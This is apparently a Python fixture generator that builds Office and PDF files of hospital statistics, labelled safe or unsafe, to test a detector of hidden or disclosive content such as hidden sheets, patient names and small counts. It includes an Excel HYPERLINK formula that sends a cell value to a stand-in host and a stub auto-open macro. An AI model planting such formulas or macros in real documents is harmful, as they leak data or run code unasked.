"""Excel, Word, PowerPoint and PDF files with hidden or embedded things, and honest ones that resemble them."""

import datetime
import io
import zipfile

import docx
import openpyxl
import xlsxwriter
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from openpyxl.comments import Comment
from openpyxl.styles import Font
from pptx import Presentation
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches
from reportlab.lib import colors
from reportlab.pdfgen.canvas import Canvas

from .common import apart, chi2, cnt, ipp, nir, np_, person, split, text_picture

DAY = datetime.datetime(2024, 1, 8)


def book(rows, title="Tableau 1", widths=(34, 16, 16, 12)):
    b = openpyxl.Workbook()
    w = b.active
    w.title = title
    for row in rows:
        w.append(row)
    for c in w[1]:
        c.font = Font(bold=True)
    for i, x in enumerate(widths):
        w.column_dimensions["ABCD"[i]].width = x
    return b, w


def t1(r, na, nb, extra=(), french=True):
    v = (
        [
            ("Femmes", 0.52),
            ("Tabagisme actif", 0.24),
            ("HTA", 0.47),
            ("Diabète", 0.19),
            ("Cancer actif", 0.12),
            ("Anticoagulant", 0.22),
        ]
        if french
        else [
            ("Female", 0.52),
            ("Current smoker", 0.24),
            ("Hypertension", 0.47),
            ("Diabetes", 0.19),
            ("Active cancer", 0.12),
            ("Anticoagulant", 0.22),
        ]
    )
    return (
        [
            [
                "Variable",
                f"Témoins (N={na})" if french else f"Controls (N={na})",
                f"Cas (N={nb})" if french else f"Cases (N={nb})",
                "p",
            ]
        ]
        + [
            [
                n,
                np_(x := cnt(r, na, p), na, french),
                np_(y := cnt(r, nb, p), nb, french),
                max(chi2(x, na, y, nb), 0.001),
            ]
            for n, p in v
        ]
        + list(extra)
    )


def word(p, title, paras, rows=None):
    d = docx.Document()
    c = d.core_properties
    c.author = ""
    c.last_modified_by = ""
    c.comments = ""
    c.created = c.modified = DAY
    d.add_heading(title, 1)
    for x in paras:
        d.add_paragraph(x)
    if rows:
        t = d.add_table(rows=0, cols=len(rows[0]), style="Light Grid Accent 1")
        for row in rows:
            for cell, x in zip(t.add_row().cells, row):
                cell.text = str(x)
    return d


def write(s):
    r = s.random("office")
    # ---------- Excel
    b, w = book(t1(r, 812, 640))
    w["A9"] = "n (%) ; test du chi²"
    w.freeze_panes = "B2"
    w.conditional_formatting
    w["D1"].comment = Comment("Test du chi², seuil 5 %, 6 comparaisons", "")
    b.save(
        s.safe(
            "xlsx/tableau1_mtev.xlsx",
            "a comment and frozen panes, no person",
            "Tableau 1 des patients avec maladie thromboembolique et des témoins.",
            "1 452 patients",
        )
    )
    b, w = book(t1(r, 702, 588))
    h = b.create_sheet("brut")
    h.append(["ipp", "sexe", "age", "dd"])
    for _ in range(90):
        h.append([ipp(r), r.choice("MF"), r.randint(20, 88), r.randint(200, 9000)])
    h.sheet_state = "veryHidden"
    b.save(
        s.unsafe(
            "xlsx/tableau1_ep.xlsx",
            "very hidden sheet of rows",
            "sheet brut",
            "Tableau 1 des patients avec embolie pulmonaire.",
            "1 290 patients",
        )
    )
    b, w = book(
        [
            *t1(r, 911, 455, french=False),
            ["Pregnant", np_(41, 911), np_(5, 455), 0.001],
            ["Obesity", np_(233, 911), np_(141, 455), 0.04],
        ]
    )
    w.row_dimensions[8].hidden = True
    b.save(
        s.unsafe(
            "xlsx/baseline_dvt.xlsx",
            "hidden row with a small cell",
            "row 8: 5 (1.1%)",
            "Baseline table of the deep vein thrombosis study.",
            "1,366 patients",
        )
    )
    rows = [["Service", "Séjours", "Réadmis J30", "Taux"]] + [
        [n, k, (m := cnt(r, k, 0.12)), round(m / k, 3)]
        for n, k in zip(
            ["Cardiologie", "Pneumologie", "Gériatrie", "Neurologie", "Chirurgie vasculaire", "Néphrologie"],
            apart(r, 6, 400, 2100, 30),
        )
    ]
    b, w = book(rows, "Réadmissions")
    for i in range(2, 8):
        w.cell(i, 4).number_format = "0.0%"
    b.save(
        s.safe(
            "xlsx/readmissions.xlsx",
            "number formats, but each cell shows its value",
            "Taux de réadmission à 30 jours par service.",
            "séjours de médecine et chirurgie, 2022",
        )
    )
    rows = [["Germe", "Isolats", "Patients", "Part R %"]] + [
        [n, k, k - 60 if k > 20 else k, x]
        for n, k, x in zip(
            ["E. coli", "S. aureus", "K. pneumoniae", "P. aeruginosa", "E. faecium", "A. baumannii"],
            [1410, 902, 611, 388, 214, 4],
            [12.1, 18.4, 22.0, 27.3, 31.1, 40.2],
        )
    ]
    b, w = book(rows, "BMR")
    w["B7"].number_format = w["C7"].number_format = '"<10"'
    b.save(
        s.unsafe(
            "xlsx/bmr_2022.xlsx",
            "a number format shows '<10' over the value 4",
            "B7 and C7",
            "Bactéries multirésistantes par espèce ; petites cases masquées.",
            "3 465 patients infectés",
        )
    )
    p = s.safe(
        "xlsx/activite_graphique.xlsx",
        "a chart with its cached values, all large",
        "Consultations par trimestre avec graphique.",
        "consultations externes, 2021-2022",
    )
    x = xlsxwriter.Workbook(p)
    x.set_properties({"title": "Consultations externes", "author": "", "created": DAY})
    w = x.add_worksheet("Consultations")
    q = [f"{y} T{k}" for y in (2021, 2022) for k in (1, 2, 3, 4)]
    v = apart(r, 8, 3100, 5200, 40)
    w.write_row(0, 0, ["Trimestre", "Consultations"])
    [w.write_row(i + 1, 0, [a, c]) for i, (a, c) in enumerate(zip(q, v))]
    w.write(10, 0, "Total")
    w.write_formula(10, 1, "=SUM(B2:B9)", None, sum(v))
    c = x.add_chart({"type": "column"})
    c.add_series(
        {"name": "Consultations", "categories": "=Consultations!$A$2:$A$9", "values": "=Consultations!$B$2:$B$9"}
    )
    w.insert_chart("D2", c)
    x.close()
    b, w = book(t1(r, 530, 498))
    w.column_dimensions["H"].hidden = True
    w["H1"] = "dossier"
    for i in range(2, 40):
        w.cell(i, 8, ipp(r))
    b.save(
        s.unsafe(
            "xlsx/tableau_bpco.xlsx",
            "hidden column of patient numbers",
            "column H",
            "Tableau descriptif des BPCO selon la trithérapie.",
            "1 028 patients BPCO",
        )
    )
    b, w = book(t1(r, 640, 602, french=False))
    w["B3"].comment = Comment(f"check smoking of {person(r)} with the ward", "")
    b.save(
        s.unsafe(
            "xlsx/baseline_copd.xlsx",
            "a cell's comment names a patient",
            "comment of B3",
            "Baseline table of COPD patients by inhaler.",
            "1,242 COPD patients",
        )
    )
    b, w = book(
        [["Domaine", "Score moyen", "ET", "Rang"]]
        + [
            [d, m, e, k]
            for d, m, e, k in zip(
                ["Accueil", "Information", "Douleur", "Repas", "Sortie", "Chambre"],
                [82.1, 77.4, 79.9, 61.2, 70.3, 74.8],
                [9.1, 10.2, 9.8, 14.0, 12.2, 11.6],
                [1, 3, 2, 6, 5, 4],
            )
        ]
    )
    w["F1"] = '=HYPERLINK("http://collecte.example.net/?d="&B2,"Détail")'
    b.save(
        s.unsafe(
            "xlsx/satisfaction.xlsx",
            "a formula sends a cell's value outside",
            "F1 HYPERLINK with &B2",
            "Scores de satisfaction par domaine (e-Satis).",
            "2 911 répondants",
        )
    )
    b, w = book(
        [["Item", "Mean", "SD", "Rank"]]
        + [
            [d, m, e, k]
            for d, m, e, k in zip(
                ["Workload", "Autonomy", "Team", "Recognition", "Balance"],
                [3.1, 3.8, 4.0, 2.9, 3.0],
                [0.8, 0.7, 0.7, 0.9, 0.9],
                [3, 2, 1, 5, 4],
            )
        ],
        "Survey",
    )
    w["F2"] = "-0.12 (vs 2021)"
    w["F3"] = "+0.08 (vs 2021)"
    b.save(
        s.safe(
            "xlsx/staff_survey.xlsx",
            "cells that begin with + or - but are text and harmless",
            "Mean scores of the staff survey by item.",
            "1,320 staff members",
        )
    )
    p = s.unsafe(
        "xlsx/simulateur_lits.xlsm",
        "a macro",
        "xl/vbaProject.bin",
        "Simulateur de besoin en lits, avec résultats moyens.",
        "24 100 séjours",
    )
    b, w = book(
        [
            ["Scénario", "Lits", "Taux d'occupation", ""],
            ["Actuel", 212, 0.88],
            ["Hiver", 238, 0.91],
            ["Extension", 251, 0.84],
        ]
    )
    buf = io.BytesIO()
    b.save(buf)
    with zipfile.ZipFile(buf) as i, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as o:
        for n in i.namelist():
            t = i.read(n)
            if n == "[Content_Types].xml":
                t = (
                    t.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
                    .replace(
                        b"application/vnd.openxmlformats-officedocument.ms-excel.sheet.macro",
                        b"application/vnd.ms-excel.sheet.macro",
                    )
                    .replace(
                        b"</Types>",
                        b'<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                    )
                )
            if n == "xl/_rels/workbook.xml.rels":
                t = t.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
                )
            o.writestr(n, t)
        o.writestr(
            "xl/vbaProject.bin",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + b'Attribut\0e VB_Nam\0e = "Module1"\r\nSub Auto_Open()\r\n'
            + bytes(900),
        )
    b, w = book(
        [["Code GHM", "Séjours", "DMS", "IP-DMS"]]
        + [
            [c, k, d, i]
            for c, k, d, i in zip(
                ["08C481", "08C482", "08C483", "08C241", "08C242", "08M041"],
                apart(r, 6, 120, 900, 15),
                [4.1, 6.8, 11.2, 5.0, 7.7, 8.3],
                [0.94, 1.02, 1.08, 0.97, 1.01, 1.1],
            )
        ],
        "GHM ortho",
    )
    w.auto_filter.ref = "A1:D7"
    d2 = b.create_sheet("Lexique")
    [
        d2.append(k)
        for k in (
            ["Sigle", "Sens"],
            ["IP-DMS", "indice de performance, 1 = référence nationale"],
            ["GHM", "groupe homogène de malades, niveaux 1 à 4"],
        )
    ]
    b.save(
        s.safe(
            "xlsx/ghm_ortho.xlsx",
            "a filter that hides nothing, a second visible sheet",
            "Activité d'orthopédie par GHM.",
            "séjours d'orthopédie, 2022",
        )
    )
    # ---------- Word
    body = [
        "Nous avons comparé les patients traités et les témoins au moyen d'un score de propension (caliper 0,2).",
        "Le risque relatif de chute était de 0,81 (IC 95 % : 0,70 à 0,94 ; p = 0,006).",
    ]
    d = word(None, "Chutes et benzodiazépines", body, t1(r, 1204, 1180))
    d.sections[0].footer.paragraphs[0].text = "Version 3, page 1 sur 2"
    d.save(
        s.safe(
            "docx/chutes_bzd.docx",
            "footer with small numbers",
            "Rapport court : chutes et benzodiazépines.",
            "2 384 patients de 75 ans et plus",
        )
    )
    d = word(None, "Chutes et antidépresseurs", body, t1(r, 980, 1011))
    run = d.add_paragraph("Le modèle est ajusté sur six covariables. ").add_run(
        f"Relire le dossier de Mme {person(r)}."
    )
    run.font.hidden = True
    d.save(
        s.unsafe(
            "docx/chutes_ad.docx",
            "hidden text with a patient's name",
            "last paragraph, w:vanish",
            "Rapport court : chutes et antidépresseurs.",
            "1 991 patients de 75 ans et plus",
        )
    )
    d = word(
        None,
        "Delirium after hip surgery",
        [
            "Delirium occurred in 212 of 1,044 patients (20.3%). Median time to surgery was 26 h (IQR 18 to 41).",
            "Sensitivity analyses (3 models) gave similar estimates.",
        ],
        t1(r, 832, 212, french=False),
    )
    par = d.add_paragraph("Intensive care was needed in few patients")
    de = OxmlElement("w:del")
    de.set(qn("w:id"), "7")
    de.set(qn("w:author"), "")
    de.set(qn("w:date"), "2024-01-08T09:00:00Z")
    ru = OxmlElement("w:r")
    tx = OxmlElement("w:delText")
    tx.set(qn("xml:space"), "preserve")
    tx.text = " (n = 6)"
    ru.append(tx)
    de.append(ru)
    par._p.append(de)
    par.add_run(".")
    d.save(
        s.unsafe(
            "docx/delirium.docx",
            "a tracked deletion holds a small count",
            "w:del: (n = 6)",
            "Short report on delirium after hip surgery.",
            "1,044 operated patients",
        )
    )
    d = word(
        None,
        "Sepsis bundle audit",
        [
            "Compliance rose from 61% to 74% of 2,210 patients over 4 quarters.",
            "See Figure 1 and the methods (2 authors coded the charts, kappa 0.87).",
        ],
    )
    buf = io.BytesIO()
    text_picture(
        ["Quarter   Compliance", "Q1        61 %", "Q2        66 %", "Q3        70 %", "Q4        74 %"],
        buf,
        format="PNG",
    )
    buf.seek(0)
    d.add_picture(buf, width=Inches(3.5))
    d.inline_shapes[0]._inline.docPr.set("descr", "Compliance by quarter, 61 to 74 percent")
    d.save(
        s.safe(
            "docx/sepsis_audit.docx",
            "a picture with an alternative text",
            "Audit of the sepsis bundle with a figure.",
            "2,210 septic patients",
        )
    )
    d = word(
        None,
        "Programme d'éducation thérapeutique",
        ["Le score de connaissances passe de 11,2 à 14,8 sur 20 (n = 610)."],
        t1(r, 330, 280),
    )
    d.core_properties.author = person(r)
    d.core_properties.subject = f"cas index {nir(r)}"
    d.core_properties.author = ""
    d.save(
        s.unsafe(
            "docx/etp.docx",
            "a NIR in the document's properties",
            "core property subject",
            "Bilan du programme d'éducation thérapeutique.",
            "610 patients",
        )
    )
    d = word(
        None,
        "Protocole d'analyse statistique",
        [
            "Critère principal : mortalité à 90 jours. Risque alpha 5 %, puissance 80 %, 2 analyses intermédiaires.",
            "Effectif calculé : 1 240 patients par bras. Les 9 centres sont stratifiés ; blocs de 4 et de 6.",
        ],
        [
            ["Étape", "Semaine", "Livrable"],
            ["Gel de base", 2, "données"],
            ["Analyse", 5, "tables"],
            ["Rapport", 8, "manuscrit"],
        ],
    )
    d.save(
        s.safe(
            "docx/plan_analyse.docx",
            "small numbers of weeks, blocks and centres",
            "Plan d'analyse statistique de l'essai.",
            "2 480 patients prévus, 9 centres",
        )
    )

    # ---------- PowerPoint
    def deck(p, cats, vals, title):
        k = Presentation()
        k.core_properties.author = ""
        k.core_properties.last_modified_by = ""
        k.core_properties.created = k.core_properties.modified = DAY
        sl = k.slides.add_slide(k.slide_layouts[5])
        sl.shapes.title.text = title
        cd = CategoryChartData()
        cd.categories = cats
        cd.add_series("Patients", vals)
        sl.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Inches(1), Inches(1.6), Inches(8), Inches(5), cd)
        k.save(p)

    deck(
        s.safe(
            "pptx/stades_mrc.pptx",
            "a chart's embedded workbook, all counts large",
            "Chart of CKD patients by stage.",
            "6,120 CKD patients",
        ),
        ["G1", "G2", "G3a", "G3b", "G4", "G5"],
        split(r, 6120, 6, 200),
        "CKD stage, 6,120 patients",
    )
    deck(
        s.unsafe(
            "pptx/stades_fibrose.pptx",
            "small value in the chart's embedded workbook, no label shown",
            "F4: 3",
            "Diagramme des patients par stade de fibrose.",
            "711 patients avec hépatite C",
        ),
        ["F0", "F1", "F2", "F3", "F4"],
        [*split(r, 708, 4, 60), 3],
        "Stade de fibrose",
    )

    # ---------- PDF
    def pdf(p, title, lines, hide="", annot="", author=""):
        c = Canvas(str(p), invariant=1)
        c.setTitle(title)
        c.setAuthor(author)
        c.setCreator("")
        c.setFont("Helvetica-Bold", 14)
        c.drawString(60, 780, title)
        c.bookmarkPage("a")
        c.addOutlineEntry(title, "a")
        c.setFont("Courier", 9.5)
        for i, said in enumerate(lines):
            c.drawString(60, 745 - 15 * i, said)
        if hide:
            c.setFillColor(colors.white)
            c.setFont("Courier", 7)
            [c.drawString(60, 300 - 9 * i, said) for i, said in enumerate(hide)]
        if annot:
            c.textAnnotation(annot, Rect=[400, 700, 420, 720], addtopage=1)
        c.save()

    def tab(vals):
        return [f"{a:<28}{b:>10}{m:>12}{e:>10}" for a, b, m, e in [("Group", "n", "mean", "SD"), *vals]]

    pdf(
        s.safe(
            "pdf/lsm_asthme.pdf",
            "a bookmark and columns of small means",
            "Contrôle de l'asthme (ACQ) par groupe, PDF.",
            "1 512 asthmatiques",
        ),
        "Contrôle de l'asthme (ACQ-6)",
        [
            *tab(
                [
                    ("CSI seuls", 612, "1.92", "0.81"),
                    ("CSI + BALA", 588, "1.64", "0.78"),
                    ("Biothérapie", 312, "1.31", "0.84"),
                ]
            ),
            "",
            "Effet groupe : F(2, 1509) = 48.2, p < 0.001",
        ],
    )
    pdf(
        s.unsafe(
            "pdf/lsm_rhinite.pdf",
            "white text on white with rows",
            "below the table",
            "Score de rhinite par groupe, PDF.",
            "1 180 patients",
        ),
        "Score de rhinite par groupe",
        tab(
            [
                ("Antihistaminique", 480, "4.2", "1.8"),
                ("Corticoïde nasal", 512, "3.6", "1.7"),
                ("Désensibilisation", 188, "2.9", "1.5"),
            ]
        ),
        hide=[f"{ipp(r)} {r.choice('MF')} {r.randint(18, 70)} {r.uniform(0, 9):.1f}" for _ in range(20)],
    )
    pdf(
        s.unsafe(
            "pdf/acq_annote.pdf",
            "a sticky note names a patient",
            "text annotation",
            "Asthma control by group with reviewer notes.",
            "1,402 patients",
        ),
        "Asthma control by group",
        tab([("ICS", 602, "1.88", "0.80"), ("ICS + LABA", 540, "1.61", "0.79"), ("Biologic", 260, "1.29", "0.86")]),
        annot=f"outlier is {person(r)}, seen again in clinic",
    )
    pdf(
        s.safe(
            "pdf/psm_balance.pdf",
            "standardised differences below 0.1",
            "Covariate balance before and after matching.",
            "3,406 matched patients",
        ),
        "Covariate balance",
        [
            f"{a:<24}{b:>12}{c:>12}"
            for a, b, c in [
                ("Covariate", "SMD before", "SMD after"),
                ("Age", "0.31", "0.02"),
                ("Female sex", "0.12", "0.01"),
                ("Charlson index", "0.44", "0.05"),
                ("Prior admission", "0.27", "0.03"),
                ("eGFR", "0.19", "0.04"),
            ]
        ]
        + ["", "1,703 pairs, caliper 0.2 SD of the logit"],
    )
    pdf(
        s.safe(
            "pdf/note_methode.pdf",
            "ages, dates of versions and thresholds of the method",
            "Note de méthode des indicateurs.",
            "aucun patient : note de méthode",
        ),
        "Note de méthode des indicateurs",
        [
            "Version 4 du guide, janvier 2024. Champ : séjours de 18 ans et plus.",
            "Toute case de moins de 10 patients est regroupée ou masquée.",
            "Âges regroupés en classes de 10 ans, dernière classe 85 ans et plus.",
            "Standardisation directe sur 5 classes d'âge et 2 sexes.",
            "Seuil d'alerte : 3 écarts-types autour de la moyenne nationale.",
        ],
    )
